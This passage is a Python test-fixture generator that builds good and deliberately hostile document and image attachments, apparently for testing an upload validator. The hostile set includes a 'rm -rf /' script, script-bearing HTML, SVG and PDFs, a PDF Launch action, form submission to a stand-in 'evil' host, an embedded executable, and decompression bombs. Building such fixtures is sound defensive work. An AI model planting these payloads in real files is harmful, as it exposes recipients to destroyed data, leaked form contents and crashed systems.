"""Attachments made by code: small good ones of every kind, and as many bad ones as we could think of."""

import struct
import zipfile
import zlib
from io import BytesIO

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
GOOD_TEXT = "供水服务整改情况说明"


# PDF ------------------------------------------------------------------------------------------------------------


def pdf(
    *more,
    catalog="",
    page="",
    content=b"BT /F1 12 Tf 20 100 Td (Form of the sample office) Tj ET",
    info="",
    tail=b"",
    loose=b"",
):
    """One page; `more` are further objects from number 6 on, as text or bytes."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>> {page}>>",
        stream(content),
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    ]
    return assembled(objects, f"/Root 1 0 R {f'/Info<<{info}>>' if info else ''}", tail, loose)


def stream(data, more=""):
    return f"<</Length {len(data)} {more}>>stream\n".encode() + data + b"\nendstream"


def assembled(objects, trailer, tail=b"", loose=b""):
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + (one if isinstance(one, bytes) else one.encode()) + b"\nendobj\n"
    out += loose
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return out + f"trailer<</Size {len(objects) + 1} {trailer}>>\nstartxref\n{start}\n%%EOF\n".encode() + tail


def updated(data, number, text):
    """The same PDF with one object written anew behind it, as programs save a small change."""
    before = data.rindex(b"startxref\n")
    previous = int(data[before + 10 :].split()[0])
    out = data
    place = len(out)
    out += f"{number} 0 obj\n{text}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n{number} 1\n{place:010} 00000 n \n".encode()
    return out + f"trailer<</Size 6/Root 1 0 R/Prev {previous}>>\nstartxref\n{start}\n%%EOF\n".encode()


def annotated(annotation):
    return pdf(annotation, page="/Annots[6 0 R]")


def nested_bomb(times):
    data = b"0" * 120_000_000
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


# Pictures -------------------------------------------------------------------------------------------------------


def chunk(kind, data=b""):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*more, wide=4, high=3, pixels=None, tail=b""):
    header = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    lines = zlib.compress(b"".join(b"\0" + b"\x20\x60\xa0" * 4 for _ in range(3)) if pixels is None else pixels, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(more) + chunk(b"IDAT", lines) + chunk(b"IEND") + tail
    )


def segment(mark, data):
    return bytes([0xFF, mark]) + struct.pack(">H", len(data) + 2) + data


def jpeg(*more, wide=8, high=8, tail=b"", end=b"\xff\xd9"):
    """Whole in its segments; what it shows is of no interest."""
    frame = segment(0xC0, struct.pack(">BHHB", 8, high, wide, 1) + b"\1\x11\0")
    tables = segment(0xDB, b"\0" + b"\1" * 64) + segment(0xC4, b"\0" + b"\1" + b"\0" * 15 + b"\0")
    scan = segment(0xDA, b"\1\1\0\0\x3f\0") + b"\x55\xff\x00\x55"
    app = segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0")
    return b"\xff\xd8" + app + b"".join(more) + tables + frame + scan + end + tail


def tiff(fields, gps=(), thumbnail=False, order="<"):
    """EXIF: `fields` are (tag, type, bytes), `gps` (tag, numbers), each number over 1."""
    head = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(order + "I", 8)
    count = len(fields) + bool(gps)
    rest, at = b"", 8 + 2 + 12 * count + 4
    body = struct.pack(order + "H", count)
    for tag, kind, value in sorted(fields):
        where = value.ljust(4, b"\0") if len(value) <= 4 else struct.pack(order + "I", at + len(rest))
        body += struct.pack(order + "HHI", tag, kind, len(value)) + where
        rest += value if len(value) > 4 else b""
    if gps:
        place = at + len(rest)
        body += struct.pack(order + "HHII", 0x8825, 4, 1, place)
        values, directory = b"", struct.pack(order + "H", len(gps))
        for tag, numbers in gps:
            directory += struct.pack(order + "HHII", tag, 5, len(numbers), place + 6 + 12 * len(gps) + len(values))
            values += b"".join(struct.pack(order + "II", number, bool(number)) for number in numbers)
        rest += directory + struct.pack(order + "I", 0) + values
    last = at + len(rest) if thumbnail else 0
    further = struct.pack(order + "HHHIII", 1, 0x0201, 4, 1, 40, 0) if thumbnail else b""
    return head + body + struct.pack(order + "I", last) + rest + further


def exif(*fields, **more):
    return segment(0xE1, b"Exif\0\0" + tiff(fields, **more))


def xmp(text):
    return (
        f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description {text}</rdf:Description></rdf:RDF></x:xmpmeta>'
    )


GPS = ((2, (31, 12, 5)), (4, (112, 10, 2)))


# Office ---------------------------------------------------------------------------------------------------------


def packed(parts, comment=b"", method=zipfile.ZIP_DEFLATED):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, text in parts.items():
            info = zipfile.ZipInfo(name, (2026, 11, 1, 12, 0, 0))
            info.compress_type = method
            package.writestr(info, text)
        package.comment = comment
    return out.getvalue()


def types(main):
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main" ContentType="{main}"/></Types>'
    )


def rels(*relations):
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(relations, 1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{inner}</Relationships>'


EXTERNAL = ' TargetMode="External"'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def paragraph(text, properties=""):
    return f"<w:p><w:r>{properties}<w:t>{text}</w:t></w:r></w:p>"


def docx_parts(body=None, *relations, main=WORD, **more):
    body = paragraph(GOOD_TEXT) if body is None else body
    return {
        "[Content_Types].xml": types(main),
        "_rels/.rels": rels(("officeDocument", "word/document.xml", "")),
        "word/document.xml": f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": rels(*relations),
        **more.get("parts", {}),
    }


def docx(*args, **more):
    return packed(docx_parts(*args, **more))


def core(**fields):
    inner = "".join(f"<{name}>{text}</{name}>" for name, text in fields.items())
    return {"docProps/core.xml": f'<?xml version="1.0"?><coreProperties>{inner}</coreProperties>'}


def xlsx_parts(rows="<row r='1'><c r='A1' t='inlineStr'><is><t>项目</t></is></c><c r='B1'><v>3</v></c></row>", **more):
    state, head = more.get("state", ""), more.get("head", "")
    return {
        "[Content_Types].xml": types(more.get("main", SHEET)),
        "_rels/.rels": rels(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {S} xmlns:r="{OFFICE}"><sheets>'
        f'<sheet name="汇总" sheetId="1" r:id="r1"/>{state}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels(("worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet {S}>{head}'
        f"<sheetData>{rows}</sheetData></worksheet>",
        **more.get("parts", {}),
    }


def xlsx(*args, **more):
    return packed(xlsx_parts(*args, **more))


def cells(*rows):
    """Rows of texts as inline cells."""
    out = ""
    for number, row in enumerate(rows, 1):
        inner = "".join(
            f"<c r='{chr(64 + column)}{number}' t='inlineStr'><is><t>{text}</t></is></c>"
            for column, text in enumerate(row, 1)
        )
        out += f"<row r='{number}'>{inner}</row>"
    return out


def formula(text):
    return f"<row r='1'><c r='B1'><f>{text}</f><v>1</v></c></row>"


def field(code):
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r></w:p>'


WHITE = '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'
DARK = '<w:tc><w:tcPr><w:shd w:val="clear" w:fill="1F3864"/></w:tcPr>'


def word_styles(*styles):
    """(id, id of the style below, properties) each."""
    inner = "".join(
        f'<w:style w:styleId="{one}"><w:basedOn w:val="{below}"/><w:rPr>{looks}</w:rPr></w:style>'
        for one, below, looks in styles
    )
    return {"word/styles.xml": f"<w:styles {W}>{inner}</w:styles>"}


def styled(font="", fill="", code="", text="<is><t>secret</t></is>", kind="t='inlineStr'"):
    """A workbook with two cells of the second style."""
    styles = (
        f"<styleSheet {S}><numFmts><numFmt numFmtId='170' formatCode='{code or '0'}'/></numFmts>"
        f"<fonts><font/><font>{font}</font></fonts><fills><fill/><fill>{fill}</fill></fills>"
        f"<cellXfs><xf/><xf fontId='1' fillId='1' numFmtId='{170 if code else 0}'/></cellXfs></styleSheet>"
    )
    row = f"<row r='1'><c r='A1' s='1' {kind}>{text}</c><c r='B1' s='1' {kind}>{text}</c></row>"
    return xlsx(row, parts={"xl/styles.xml": styles})


USUAL_WHITE = f'<w:style w:type="paragraph" w:default="1" w:styleId="a">{WHITE}</w:style>'


def table_styled(inner="", whole="", cell="", look=""):
    """A Word table of two rows whose style says how its text looks; `inner` is of some of its rows."""
    style = f'<w:style w:type="table" w:styleId="t"><w:rPr>{whole}</w:rPr>{inner}</w:style>'
    usual = '<w:docDefaults><w:rPrDefault><w:rPr><w:color w:val="000000"/></w:rPr></w:rPrDefault></w:docDefaults>'
    rows = "".join(f"<w:tr><w:tc>{cell}{paragraph(text, look)}</w:tc></w:tr>" for text in ("项目", "secret"))
    table = f'<w:tbl><w:tblPr><w:tblStyle w:val="t"/></w:tblPr>{rows}</w:tbl>{paragraph("x")}'
    return docx(table, parts={"word/styles.xml": f"<w:styles {W}>{usual}{style}</w:styles>"})


def part_of_table(part, font, ground=""):
    shade = f'<w:tcPr><w:shd w:val="clear" w:fill="{ground}"/></w:tcPr>' if ground else ""
    return f'<w:tblStylePr w:type="{part}"><w:rPr><w:color w:val="{font}"/></w:rPr>{shade}</w:tblStylePr>'


def changed(fill="", table=False):
    """A workbook whose second change of styles makes text white, by a condition or by a table."""
    change = f'<font><color rgb="FFFFFFFF"/></font>{fill}'
    whole = '<tableStyleElement type="wholeTable" dxfId="1"/>'
    named = f'<tableStyles><tableStyle name="own">{whole}</tableStyle></tableStyles>'
    rule = "<conditionalFormatting sqref='A1:B9'><cfRule type='expression' dxfId='1'/></conditionalFormatting>"
    parts = {"xl/styles.xml": f"<styleSheet {S}><dxfs><dxf/><dxf>{change}</dxf></dxfs>{named}</styleSheet>"}
    if table:
        parts["xl/tables/table1.xml"] = f"<table {S} ref='A1:B9'><tableStyleInfo name='own'/></table>"
    return xlsx(cells(["项目", "secret"]), parts=parts, head="" if table else rule)


# The corpus -----------------------------------------------------------------------------------------------------

GOOD = {
    "good.pdf": pdf(),
    "good.png": png(),
    "good.jpg": jpeg(),
    "good.docx": docx(),
    "good.xlsx": xlsx(),
    "good.csv": "项目,数值\n漏水,-3.5\n停水,+2%\n未查,-\n".encode(),
    "good.txt": "整改情况说明。\n".encode(),
    "gb18030.txt": "整改情况说明。\n".encode("gb18030"),
    "大写.JPEG": jpeg(),
    "link.pdf": annotated("<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://service.example/)>>>>"),
    "opens-at-page.pdf": pdf(catalog="/OpenAction[3 0 R/Fit]"),
    "form.pdf": pdf("<</FT/Tx/T(item)/Subtype/Widget/Rect[0 0 9 9]>>", catalog="/AcroForm<</Fields[6 0 R]>>"),
    "link.docx": docx(None, ("hyperlink", "https://service.example/", EXTERNAL)),
    "picture.docx": docx(parts={"word/media/image1.png": png()}),
    "white-on-dark.docx": docx(
        f"<w:tbl><w:tr>{DARK}{paragraph('项目', WHITE)}</w:tc></w:tr></w:tbl>"
        + paragraph("x", '<w:rPr><w:color w:val="FFFFFF"/><w:highlight w:val="black"/></w:rPr>')
    ),
    "white-on-dark-by-table.docx": table_styled(part_of_table("firstRow", "FFFFFF", "1F3864")),
    "black-in-white-table.docx": table_styled(
        whole='<w:color w:val="FFFFFF"/>', look='<w:rPr><w:color w:val="1F3864"/></w:rPr>'
    ),
    "white-on-dark-by-condition.xlsx": changed('<fill><patternFill><bgColor rgb="FF1F3864"/></patternFill></fill>'),
    "shown-in-hidden-style.docx": docx(
        paragraph("x", '<w:rPr><w:rStyle w:val="a"/><w:vanish w:val="0"/></w:rPr>'),
        parts=word_styles(("a", "", "<w:vanish/>")),
    ),
    "white-on-dark.xlsx": styled('<color rgb="FFFFFFFF"/>', '<patternFill><fgColor rgb="FF1F3864"/></patternFill>'),
    "black-after-white.pdf": pdf(content=b"q 1 g 0 0 9 9 re f Q BT /F1 12 Tf 20 100 Td (Form of the office) Tj ET"),
    "sum.xlsx": xlsx(formula("SUM(A1:A3)/MAX(1,2)")),
}

ZIP = packed({"a.txt": "x"})
HTML = b"<!DOCTYPE html><html><script>document.title='pwned'</script></html>"
JS = "/S/JavaScript/JS(app.alert\\(1\\))"
BLANK = b""

HOSTILE = {
    # names and kinds
    "empty.pdf": b"",
    "blanks.txt": b"\n \n",
    "pdf-is-html.pdf": HTML,
    "pdf-is-png.pdf": png(),
    "png-is-jpeg.png": jpeg(),
    "jpg-is-png.jpg": png(),
    "docx-is-xlsx.docx": xlsx(),
    "xlsx-is-docx.xlsx": docx(),
    "xlsx-is-csv.xlsx": b"a,b\n1,2\n",
    "docx-is-zip.docx": ZIP,
    "docx-is-text.docx": "说明".encode(),
    "csv-is-pdf.csv": pdf(),
    "txt-is-program.txt": b"MZ\x90\0\3" + b"\0" * 60,
    "txt-is-script.txt": b"#!/bin/sh\nrm -rf /\n",
    "txt-is-html.txt": HTML,
    "txt-hides-html.txt": "说明\n".encode() + HTML,
    "csv-hides-html.csv": b"a,b\n1,<script>alert(1)</script>\n",
    "page.html": HTML,
    "picture.svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "png-is-svg.png": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "archive.zip": ZIP,
    "archive.rar": b"Rar!\x1a\7\1\0",
    "archive.7z": b"7z\xbc\xaf\x27\x1c\0\4",
    "archive.gz": b"\x1f\x8b\x08\0\0\0\0\0\0\3",
    "program.exe": b"MZ\x90\0\3",
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "old-as-docx.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "password.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
    "rich.rtf": b"{\\rtf1 x}",
    "moving.gif": b"GIF89a\1\0\1\0",
    "picture.bmp": b"BM\x1e\0\0\0" + b"\0" * 24,
    "picture.tif": tiff([]),
    "picture.webp": b"RIFF\x10\0\0\0WEBPVP8 \0\0\0\0",
    "picture.heic": b"\0\0\0\x18ftypheic\0\0\0\0",
    "film.mp4": b"\0\0\0\x18ftypmp42\0\0\0\0",
    "slides.pptx": packed(
        {
            "[Content_Types].xml": types(
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
            )
        }
    ),
    "text.odt": packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
    "document.ofd": packed({"OFD.xml": "<x/>"}),
    "no-suffix": pdf(),
    "unknown.dat": b"\x01\x02\0\x03" * 20,
    # two things in one
    "pdf-later.pdf": b"\n" * 20 + pdf(),
    "pdf-in-txt.txt": b"hello\n" + pdf(),
    "pdf-in-jpeg.jpg": jpeg(segment(0xFE, b"%PDF-1.4 x")),
    "zip-behind-png.png": png(tail=ZIP),
    "html-behind-png.png": png(tail=HTML),
    "zip-behind-jpeg.jpg": jpeg(tail=ZIP),
    "html-behind-jpeg.jpg": jpeg(tail=HTML),
    "film-behind-jpeg.jpg": jpeg(tail=b"\0\0\0\x18ftypmp42" + b"\1" * 40),
    "zip-behind-pdf.pdf": pdf(tail=ZIP),
    "html-behind-pdf.pdf": pdf(tail=HTML),
    "blanks-behind-pdf.pdf": pdf(tail=b" " * 5000),
    "zip-in-comment.jpg": BLANK,
    "before-docx.docx": b"\x89PNG" + docx(),
    "program-before-docx.docx": b"MZ\x90\0" + docx(),
    "behind-docx.docx": docx() + b"x" * 40,
    "comment-of-docx.docx": packed(docx_parts(), comment=b"secret"),
    "part-between.docx": BLANK,
    # damage
    "truncated.pdf": pdf()[:-200],
    "half.pdf": pdf()[:300],
    "head-only.pdf": b"%PDF-1.7\n%%EOF",
    "no-pages.pdf": assembled(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"], "/Root 1 0 R"),
    "no-root.pdf": assembled(["<</Type/Pages>>"], ""),
    "truncated.png": png()[:-20],
    "cut-in-chunk.png": png()[:60],
    "wrong-sum.png": png()[:-5] + b"\0" + png()[-4:],
    "few-pixels.png": png(pixels=b"\0" * 10),
    "no-pixels.png": png(wide=0),
    "truncated.jpg": jpeg(end=b""),
    "cut-in-segment.jpg": jpeg()[:30],
    "no-frame.jpg": b"\xff\xd8" + segment(0xE0, b"JFIF\0") + b"\xff\xd9",
    "truncated.docx": docx()[:-60],
    "half.docx": docx()[:200],
    "broken-xml.docx": docx("<w:p><w:r>"),
    "doctype.docx": packed(
        docx_parts() | {"word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><w:document>&a;</w:document>'}
    ),
    "no-sheet.xlsx": packed({name: text for name, text in xlsx_parts().items() if "sheet1" not in name}),
    "same-part-twice.docx": BLANK,
    "broken.txt": b"\xff\xfe\x80\x81 abc \xe4",
    "wide.txt": "说明".encode("utf-16"),
    "nul.csv": b"a,b\0\n",
    "direction.txt": "说明\u202e文字".encode(),
    "quotes.csv": b'a,"b\n1,2\n',
    # bombs
    "many-pixels.png": png(wide=60_000, high=60_000),
    "many-pixels.jpg": jpeg(wide=65_000, high=65_000),
    "picture-bomb.png": png(pixels=b"\0" * 5_000_000),
    "text-bomb.png": png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 20_000_000, 9))),
    "zip-bomb.docx": docx(parts={"word/x.xml": "<a>" + " " * 60_000_000 + "</a>"}),
    "many-tags.docx": docx(paragraph("x") * 250_000),
    "deep.docx": docx("<w:p>" * 100_000 + "</w:p>" * 100_000),
    "far-cell.xlsx": xlsx("<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"),
    "many-cells.xlsx": xlsx(
        "".join(f"<row r='{n}'>" + f"<c r='A{n}'><v>1</v></c><c r='B{n}'><v>2</v></c></row>" for n in range(1, 90_000))
    ),
    "flate-bomb.pdf": BLANK,
    "long.txt": b"a" * 3_500_000,
    "big.pdf": pdf(tail=b"") + b" " * 11_000_000,
    # PDF that acts
    "opens-script.pdf": pdf(catalog=f"/OpenAction<<{JS}>>"),
    "opens-script-hidden-name.pdf": pdf(catalog="/OpenAction<</S/J#61vaScript/J#53(1)>>"),
    "script-in-names.pdf": pdf(f"<<{JS}>>", catalog="/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"),
    "script-unused.pdf": pdf(f"<<{JS}>>"),
    "script-in-page.pdf": pdf(page=f"/AA<</O<<{JS}>>>>"),
    "script-outside-table.pdf": pdf(loose=b"9 0 obj\n<</S/JavaScript/JS(1)>>\nendobj\n"),
    "launch.pdf": pdf(catalog="/OpenAction<</S/Launch/F(calc.exe)>>"),
    "opens-address.pdf": pdf(catalog="/OpenAction<</S/URI/URI(https://evil.example/)>>"),
    "page-opens-address.pdf": pdf(page="/AA<</O<</S/URI/URI(https://evil.example/)>>>>"),
    "submit.pdf": annotated("<</Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example/)>>>>"),
    "other-file.pdf": annotated("<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>"),
    "embedded.pdf": pdf(
        "<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>",
        stream(b"MZ", "/Type/EmbeddedFile"),
        catalog="/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>",
    ),
    "attached-note.pdf": annotated("<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</EF<<>>>>>>"),
    "portfolio.pdf": pdf(catalog="/Collection<<>>"),
    "xfa.pdf": pdf(catalog="/AcroForm<</Fields[]/XFA[]>>"),
    "film.pdf": annotated("<</Subtype/RichMedia/Rect[0 0 9 9]>>"),
    "outside-stream.pdf": pdf(stream(b"", "/F(https://evil.example/x)")),
    "encrypted.pdf": assembled(
        ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"],
        "/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(x)/P -4>>/ID[(a)(b)]",
    ),
    "page-loop.pdf": assembled(
        ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"], "/Root 1 0 R"
    ),
    "page-loop-of-two.pdf": assembled(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 1/Parent 2 0 R>>",
        ],
        "/Root 1 0 R",
    ),
    "page-tree-grows.pdf": assembled(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            *(f"<</Type/Pages/Kids[{' '.join([f'{n} 0 R'] * 10)}]/Count 9>>" for n in range(3, 20)),
            "<</Type/Page/MediaBox[0 0 9 9]>>",
        ],
        "/Root 1 0 R",
    ),
    "many-pages.pdf": assembled(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Kids[{'3 0 R ' * 501}]/Count 501>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        ],
        "/Root 1 0 R",
    ),
    "huge-table.pdf": pdf().replace(b"0 6\n", b"0 999999999\n", 1),
    "previous-loop.pdf": pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % pdf().rindex(b"xref\n0 "), 1),
    "deep-array.pdf": pdf("[" * 20_000 + "]" * 20_000),
    "deep-form.pdf": pdf(
        stream(b"/X Do", "/Type/XObject/Subtype/Form/Resources<</XObject<</X 6 0 R>>>>"),
        content=b"/X Do",
        page="/Resources<</XObject<</X 6 0 R>>>>",
    ),
    "nested-filters.pdf": pdf(content=BLANK),
    "slow-content.pdf": pdf(content=b"BT /F1 1 Tf " + b"(a) Tj 1 0 Td " * 400_000 + b"ET"),
    "long-references.pdf": pdf(*(f"{n + 1} 0 R" for n in range(6, 3000)), page="/Annots 6 0 R"),
    "negative-length.pdf": pdf().replace(b"/Length ", b"/Length -", 1),
    # what must not be seen
    "note.pdf": annotated("<</Subtype/Text/Rect[0 0 9 9]/Contents(to be deleted)>>"),
    "redact-not-applied.pdf": annotated("<</Subtype/Redact/Rect[0 0 9 9]>>"),
    "layer-off.pdf": pdf("<</Type/OCG/Name(x)>>", catalog="/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>"),
    "saved-twice.pdf": updated(pdf(), 4, "<</Length 0>>stream\n\nendstream"),
    "scan.pdf": pdf(content=b"0 0 1 rg 0 0 100 100 re f"),
    "author.pdf": pdf(info="/Author(Zhao Qian)/Company(Somewhere Ltd)/Producer(Printer 1)"),
    "software-only.pdf": pdf(info="/Producer(Printer 1)/CreationDate(D:20261101)"),
    "xmp-author.pdf": pdf(
        stream(
            xmp("><dc:creator><rdf:Seq><rdf:li>office-7</rdf:li></rdf:Seq></dc:creator>").encode(),
            "/Type/Metadata/Subtype/XML",
        ),
        catalog="/Metadata 6 0 R",
    ),
    "picture-with-place.pdf": pdf(
        stream(
            jpeg(exif(gps=GPS)),
            "/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/DCTDecode",
        ),
    ),
    "place.jpg": jpeg(exif(gps=GPS)),
    "place-big-endian.jpg": jpeg(exif(gps=GPS, order=">")),
    "place-in-xmp.jpg": jpeg(
        segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp('exif:GPSLatitude="31,12N">').encode())
    ),
    "place.png": png(chunk(b"eXIf", tiff([], gps=GPS))),
    "empty-place.jpg": jpeg(exif(gps=((2, (0, 0, 0)), (4, (0, 0, 0))))),
    "place-shown.jpg": jpeg(exif(gps=((20, (31, 12, 5)), (22, (112, 10, 2))))),
    "place-in-thumbnail.jpg": jpeg(segment(0xE1, b"Exif\0\0" + tiff([]) + jpeg(exif(gps=GPS)))),
    "place-in-xmp-of-thumbnail.jpg": jpeg(
        segment(
            0xE1,
            b"Exif\0\0"
            + tiff([])
            + b"http://ns.adobe.com/xap/1.0/\0"
            + xmp("><exif:GPSLongitude x='y'>112,1E</exif:GPSLongitude>").encode(),
        )
    ),
    "place-shown-in-xmp.jpg": jpeg(
        segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp("exif:GPSDestLatitude='31,12N'>").encode())
    ),
    "place-behind-prefix.png": png(chunk(b"eXIf", b"Exif\0\0" + tiff([], gps=GPS))),
    "place-in-raw-profile.png": png(
        chunk(b"tEXt", b"Raw profile type exif\0\nexif\n 99\n" + (b"Exif\0\0" + tiff([], gps=GPS)).hex().encode())
    ),
    "place-in-raw-xmp.png": png(
        chunk(
            b"tEXt", b"Raw profile type xmp\0\nxmp\n 99\n" + xmp('exif:GPSLatitude="31,12N">').encode().hex().encode()
        )
    ),
    "place-in-directory-21.jpg": jpeg(
        segment(
            0xE1,
            b"Exif\0\0II*\0\x08\0\0\0"
            + b"".join(b"\0\0" + struct.pack("<I", 8 + 6 * (n + 1)) for n in range(25))
            + b"\0" * 6,
        )
    ),
    "exif-of-no-order.jpg": jpeg(segment(0xE1, b"Exif\0\0ZZ*\0\x08\0\0\0")),
    "wide-comment.jpg": jpeg(exif((0x9286, 7, b"UNICODE\0" + "现场照片 9 号".encode("utf-16-be")), order=">")),
    "wide-comment-other-order.jpg": jpeg(exif((0x9286, 7, b"UNICODE\0" + "现场照片".encode("utf-16-le")), order=">")),
    "unknown-tag.jpg": jpeg(exif((0xFDE8, 2, b"Owner: office-7\0"))),
    "maker.jpg": jpeg(exif((0x927C, 7, b"\0\1\2office-7 of the bureau\0\1"))),
    "private-segment.jpg": jpeg(segment(0xE7, b"NOTES\0seen by office-7")),
    "quality-with-text.jpg": jpeg(segment(0xEC, b"Ducky\0\1\0\4\0\0\0\x3c\0\2\0\x0aseen by office-7\0\0")),
    "reserved-segment.jpg": jpeg(segment(0xF3, b"secret")),
    "two-pictures.jpg": jpeg(segment(0xE2, b"MPF\0II*\0"), tail=jpeg(exif(gps=GPS))),
    "profile.jpg": jpeg(segment(0xE2, b"ICC_PROFILE\0\1\1" + b"\0" * 8 + b"desc\0Screen of office-7\0")),
    "profile.png": png(chunk(b"iCCP", b"Screen 7\0\0" + zlib.compress(b"\0" * 40 + b"made for office-7\0"))),
    "profile-bomb.png": png(chunk(b"iCCP", b"Screen 7\0\0" + zlib.compress(b"a" * 9_000_000, 9))),
    "packed-comment.png": png(chunk(b"zTXt", b"Owner\0\0" + zlib.compress(b"office-7"))),
    "size-with-text.png": png(chunk(b"pHYs", b"\0\0\1\0\0\0\1\0\1office-7")),
    "camera.jpg": jpeg(
        exif(
            (0x010F, 2, b"Maker\0"),
            (0x0110, 2, b"Model 9\0"),
            (0x0132, 2, b"2026:10:03 09:10:11\0"),
            (0xA431, 2, b"SN123456\0"),
            (0x013B, 2, "摄影岗".encode() + b"\0"),
            (0x9C9C, 1, "现场照片".encode("utf-16-le")),
        )
    ),
    "thumbnail.jpg": jpeg(exif(thumbnail=True)),
    "iptc.jpg": jpeg(
        segment(0xED, b"Photoshop 3.0\0" + b"8BIM\4\4\0\0\0\0\0\x10\x1c\2\x50\0\6office\x1c\2\x78\0\4hall")
    ),
    "comment.jpg": jpeg(segment(0xFE, b"made by office")),
    "loop-in-exif.jpg": jpeg(
        segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\x69\x87\4\0\1\0\0\0\x08\0\0\0" * 200)
    ),
    "text.png": png(chunk(b"tEXt", b"Author\0office"), chunk(b"iTXt", "Comment\0\0\0zh\0\0现场".encode())),
    "hidden-chunk.png": png(chunk(b"prVt", b"PK\3\4secret")),
    "author.docx": docx(parts=core(creator="office-7", lastModifiedBy="office-8", title="x")),
    "software-only.docx": docx(
        parts={
            "docProps/app.xml": "<Properties><Application>Office</Application></Properties>",
            "docProps/custom.xml": '<Properties><property name="KSOProductBuildVer"><v>9</v></property></Properties>',
        }
    ),
    "custom.docx": docx(
        parts={"docProps/custom.xml": '<Properties><property name="_Reviewer"><v>office-9</v></property></Properties>'}
    ),
    "comments.docx": docx(parts={"word/comments.xml": f"<w:comments {W}>{paragraph('why so many?')}</w:comments>"}),
    "tracked.docx": docx(
        "<w:p><w:ins><w:r><w:t>5</w:t></w:r></w:ins><w:del><w:r><w:delText>50</w:delText></w:r></w:del></w:p>"
    ),
